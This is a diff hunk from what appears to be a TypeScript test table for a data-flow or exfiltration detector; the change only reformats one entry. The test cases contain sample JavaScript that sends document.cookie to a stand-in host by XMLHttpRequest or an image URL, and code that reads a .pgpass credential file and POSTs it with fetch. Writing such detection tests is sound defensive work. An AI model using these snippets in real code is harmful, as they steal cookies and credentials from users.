@@ -218,7 +218,11 @@ const JAVASCRIPT: readonly (readonly [name: string, code: string, flows: readonl
     `const x = new XMLHttpRequest(); x.open('POST', 'https://c.example.invalid/k'); x.send(document.cookie);`,
     ['browser-profile > http c.example.invalid'],
   ],
-  ['a picture', `new Image().src = 'https://c.example.invalid/p?c=' + document.cookie;`, ['browser-profile > http c.example.invalid']],
+  [
+    'a picture',
+    `new Image().src = 'https://c.example.invalid/p?c=' + document.cookie;`,
+    ['browser-profile > http c.example.invalid'],
+  ],
   [
     'a class',
     `const fs = require('fs');\nclass Agent { #bag = []; read(p) { this.#bag.push(fs.readFileSync(p, 'utf8')); return this; } async flush() { await fetch('https://c.example.invalid', { method: 'POST', body: this.#bag.join('') }); } }\nconst a = new Agent(); a.read('/home/u/.pgpass'); a.flush();`,
